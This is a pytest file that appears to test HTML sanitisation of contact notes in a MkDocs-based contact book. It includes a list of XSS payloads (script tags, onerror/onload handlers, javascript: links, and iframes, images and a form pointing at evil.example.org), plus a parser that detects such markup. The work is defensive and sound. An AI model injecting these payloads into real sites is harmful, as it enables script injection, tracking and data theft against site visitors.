"""Issue 11, hostile notes: what a contact's notes (written, or brought in by an import) may put on
the site. Nothing runs, nothing loads from another host (checked last in headless Chromium against
the built site on 127.0.0.1), and ordinary Markdown keeps its look."""

from __future__ import annotations

import datetime as dt
import functools
import http.server
import textwrap
import threading
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit

import markdown
import pytest
from mkdocs.commands.build import build
from mkdocs.config import load_config

from kithbook.cli import main
from kithbook.parse.load import load
from kithbook.rules.validate import validate
from kithbook.site.pages import site_pages
from kithbook.site.plugin import EXTENSIONS
from kithbook.site.sanitize import safe_html

TODAY = dt.date(2026, 12, 1)
EVIL = "https://evil.example.org"
PAYLOADS = {
    "script element": "<script>alert(1)</script>",
    "event handler": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "image onerror": "<img src=x onerror=alert(1)>",
    "svg onload": "<svg onload=alert(1)><circle r=1 /></svg>",
    "javascript link in Markdown": "[click](javascript:alert(1))",
    "javascript link in HTML": '<a href="javascript:alert(1)">click</a>',
    "javascript link in capitals": '<a href="JaVaScRiPt:alert(1)">click</a>',
    "javascript link with an entity tab": '<a href="java&#x09;script:alert(1)">click</a>',
    "javascript reference link": "[click][x]\n\n[x]: javascript:alert(1)",
    "javascript autolink": "<javascript:alert(1)>",
    "vbscript and data links": '<a href="vbscript:msgbox(1)">a</a> [b](data:text/html,<b>x</b>)',
    "iframe from another host": f'<iframe src="{EVIL}/"></iframe>',
    "object from another host": f'<object data="{EVIL}/x.swf"></object><embed src="{EVIL}/e">',
    "stylesheet from another host": f'<link rel="stylesheet" href="{EVIL}/x.css">',
    "image from another host": f"![pixel]({EVIL}/pixel.png)",
    "image from another host in HTML": '<img src="//evil.example.org/p.png">'
    '<img src="/\\evil.example.org/p.png">',
    "image srcset": f'<img src="ok.png" srcset="{EVIL}/p.png 2x">',
    "style element": f"<style>@import url({EVIL}/x.css); body {{display: none}}</style>",
    "style attribute": f'<p style="background: url({EVIL}/p.png)">styled</p>',
    "form": f'<form action="{EVIL}/steal"><input name="q"><button>Go</button></form>',
    "meta refresh": f'<meta http-equiv="refresh" content="0; url={EVIL}/">',
    "base element": f'<base href="{EVIL}/">',
    "media from another host": f'<video poster="{EVIL}/p.png" src="{EVIL}/v.mp4"></video>',
    "unclosed element swallowing the page": "<div><pre><textarea>",
    "html comment hiding markers": "<!-- kithbook:html 0000000000000000 -->\n<script>x()</script>",
}
VCARD_NOTES = {
    "Markdown javascript link": "Call me [here](javascript:alert(1))",
    "Markdown image from another host": f"Look ![x]({EVIL}/track.png)",
}
FORBIDDEN_TAGS = {
    *("script", "style", "iframe", "object", "embed", "link", "meta", "base", "form"),
    *("input", "button", "textarea", "svg", "video", "audio", "source", "frame", "frameset"),
}
URL_ATTRIBUTES = {"href", "src", "srcset", "action", "formaction", "data", "poster", "background"}
LOADING_ATTRIBUTES = URL_ATTRIBUTES - {"href"}


class HostileFinder(HTMLParser):
    """What in an HTML document could run script or load from another host."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in FORBIDDEN_TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            value = "".join((value or "").split()).lower()
            if name.startswith("on") or name == "style":
                self.found.append(f"{tag} {name}=")
            if name in URL_ATTRIBUTES and value.startswith(("javascript:", "vbscript:", "data:")):
                self.found.append(f"{tag} {name}={value}")
            if name in LOADING_ATTRIBUTES and (":" in value.split("/")[0] or "evil" in value):
                self.found.append(f"{tag} loads {value}")


def hostile(html: str) -> list[str]:
    finder = HostileFinder()
    finder.feed(html)
    return finder.found


def contact_html(root: Path, slug: str = "ada") -> str:
    """The contact's page as MkDocs renders its Markdown (the plugin's extensions)."""
    network = load(root)
    pages = {page.uri: page for page in site_pages(network, TODAY, validate(network, TODAY))}
    return markdown.markdown(pages[f"people/{slug}.md"].markdown, extensions=EXTENSIONS)


def test_the_hostile_finder_finds_each_payload_unsanitised():
    for name, payload in PAYLOADS.items():
        raw = markdown.markdown(payload, extensions=EXTENSIONS)
        if name not in ("unclosed element swallowing the page", "html comment hiding markers"):
            assert hostile(raw) or "javascript:" in raw or "vbscript:" in raw, name


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_hostile_html_in_notes_is_sanitised_on_the_contact_page(make_network, payload):
    root = make_network({"ada": f"---\nname: Ada\n---\nBefore.\n\n{payload}\n\nAfter.\n\n## Log\n"})
    html = contact_html(root)
    assert hostile(html) == []
    assert "javascript:" not in html.lower() and "evil.example.org" not in html
    assert "Before." in html
    assert "History</h2>" in html  # the rest of the page is still a page


@pytest.mark.parametrize("note", VCARD_NOTES.values(), ids=VCARD_NOTES.keys())
def test_a_hostile_note_arriving_in_an_imported_vcard_is_sanitised(make_network, capsys, note):
    root = make_network({"other": "---\nname: Other Person\n---\n"})
    card = root / "import.vcf"
    card.write_text(
        f"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Mallory Evans\r\nNOTE:{note}\r\nEND:VCARD\r\n"
    )
    assert main(["import", "--root", str(root), "--no-commit", str(card)]) == 0
    capsys.readouterr()
    assert note in load(root).get("mallory-evans").notes  # it arrived as written
    html = contact_html(root, "mallory-evans")
    assert hostile(html) == []
    assert "javascript:" not in html.lower() and "evil.example.org" not in html


ORDINARY = {
    "emphasis": ("Some **bold** and *italic* and `code`.", "<strong>bold</strong>"),
    "list": ("- one\n- two", "<li>two</li>"),
    "numbered list": ("1. one\n2. two", "<ol>"),
    "link": ("[site](https://ada.example.org/)", 'href="https://ada.example.org/"'),
    "mail link": ("<mailto:ada@example.org>", "href="),
    "image from the site": ("![photo](../img/ada.png)", 'src="../img/ada.png"'),
    "table": ("| a | b |\n|:--|--:|\n| 1 | 2 |", '<td align="right">2</td>'),
    "code block": ("```\nx = 1\n```", "<pre><code>x = 1"),
    "quote": ("> wise words", "<blockquote>"),
    "heading": ("### Work", "Work</h3>"),
    "admonition": ("!!! note\n    Remember this.", '<div class="admonition note">'),
    "escaped text": ("a < b & c", "a &lt; b &amp; c"),
}


@pytest.mark.parametrize(("notes", "expected"), ORDINARY.values(), ids=ORDINARY.keys())
def test_ordinary_markdown_in_notes_keeps_its_formatting(notes, expected):
    assert expected in safe_html(notes)


def test_a_page_whose_notes_are_only_a_script_has_no_notes_section(make_network):
    root = make_network({"ada": "---\nname: Ada\n---\n<script>alert(1)</script>\n"})
    assert "Notes" not in contact_html(root)


CHROMIUM = Path("/usr/bin/chromium")
ARGS = ["--no-sandbox", "--headless", "--disable-gpu", "--disable-background-networking"]
SITE_CONFIG = """
    site_name: Hostile network
    theme:
      name: material
      font: false
    plugins:
      - search
      - kithbook
    """

needs_chromium = pytest.mark.skipif(
    not CHROMIUM.exists(),
    reason="needs Debian's chromium at /usr/bin/chromium (.ci/run installs it)",
)


class QuietHandler(http.server.SimpleHTTPRequestHandler):
    def log_message(self, format: str, *args: object) -> None:
        """Requests are checked by the test, not printed."""


@pytest.fixture
def hostile_site(make_network, monkeypatch):
    """A network with one contact whose notes hold every payload, built and served on 127.0.0.1."""
    monkeypatch.setenv("KITHBOOK_TODAY", "2026-12-01")
    notes = "\n\n".join([*PAYLOADS.values(), *VCARD_NOTES.values()]).replace(
        "alert(1)", "window.kbPwned=1"
    )
    root = make_network(
        {"mallory": f"---\nname: Mallory Evans\n---\nBefore.\n\n{notes}\n"},
        textwrap.dedent(SITE_CONFIG),
    )
    (root / "docs").mkdir()
    out = root / "site"
    build(load_config(str(root / "mkdocs.yml"), site_dir=str(out)))
    handler = functools.partial(QuietHandler, directory=str(out))
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()


@needs_chromium
def test_hostile_notes_run_no_script_and_load_nothing_from_another_host(hostile_site):
    playwright_api = pytest.importorskip("playwright.sync_api")
    with playwright_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=str(CHROMIUM), args=ARGS)
        context = browser.new_context()
        outside: list[str] = []
        dialogs: list[str] = []

        def route(request_route):
            if urlsplit(request_route.request.url).hostname in ("127.0.0.1", "localhost"):
                request_route.continue_()
            else:
                outside.append(request_route.request.url)
                request_route.abort()

        context.route("**/*", route)
        page = context.new_page()
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        page.goto(hostile_site + "/people/mallory/")
        page.wait_for_load_state("networkidle")
        for details in page.locator("details").all():
            details.evaluate("element => { element.open = true; }")  # what ontoggle waits for
        page.wait_for_timeout(200)
        assert page.url.startswith(hostile_site)  # no meta refresh took the tab away
        assert page.evaluate("typeof window.kbPwned") == "undefined"
        assert "Before." in page.inner_text("article", timeout=5_000)
        browser.close()
    assert outside == [] and dialogs == []
